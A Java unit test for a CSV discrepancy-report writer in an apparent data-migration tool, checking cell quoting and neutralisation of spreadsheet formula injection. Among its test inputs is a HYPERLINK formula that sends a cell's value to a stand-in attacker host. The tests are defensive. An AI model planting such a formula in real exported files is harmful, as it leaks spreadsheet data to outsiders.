package io.github.dhisadmin.core.internal.migration.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringWriter;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvDiscrepanciesTest {
  private static final String POINT =
      "vaccines,VALUE_DIFFERS,x3Do5e7g4Qo,202601,DiszpKrYNg8,Prlt0C1RF0s,\"\",";

  @Test
  void there_is_a_head_and_a_line_for_each() throws IOException {
    assertThat(csv(FoundDiscrepancies.of("7", "8")))
        .isEqualTo(
            "itemSet,kind,dataElement,period,organisationUnit,categoryOptionCombo,"
                + "attributeOptionCombo,source,destination\r\n"
                + POINT
                + "7,8\r\n");
  }

  @Test
  void what_is_missing_is_told_from_an_empty_value() throws IOException {
    assertThat(cells(null, "")).isEqualTo(",\"\"");
  }

  @Test
  void separators_quotes_and_lines_stay_within_their_cell() throws IOException {
    assertThat(cells("a,b;c", "say \"no\"\nnow")).isEqualTo("\"a,b;c\",\"say \"\"no\"\"\nnow\"");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\uff1d1+1",
        "-cmd",
      })
  void texts_that_look_like_formulas_are_texts(String text) throws IOException {
    assertThat(cells(text, "")).matches("(?s)\"?'.*");
  }

  @ParameterizedTest
  @ValueSource(strings = {"=HYPERLINK(\"https://attacker.invalid/?\"&A1)", "\t=1", "\r=1", "\n=1"})
  void formulas_that_need_quotes_are_texts_as_well(String text) throws IOException {
    assertThat(cells(text, "")).startsWith("\"'");
  }

  @ParameterizedTest
  @ValueSource(strings = {"-5", "+5", "-0.25", "-1e-7", "7", "2026-01-31", "a=b"})
  void numbers_and_other_texts_stay_as_they_are(String text) throws IOException {
    assertThat(cells(text, "")).startsWith(text + ",");
  }

  /** The cells of both values. */
  private static String cells(@Nullable String source, @Nullable String destination)
      throws IOException {
    String csv = csv(FoundDiscrepancies.of(source, destination));
    return csv.substring(csv.indexOf(POINT) + POINT.length(), csv.length() - 2);
  }

  private static String csv(FoundDiscrepancies found) throws IOException {
    StringWriter out = new StringWriter();
    new CsvDiscrepancies(found.list()).writeTo(out);
    return out.toString();
  }
}
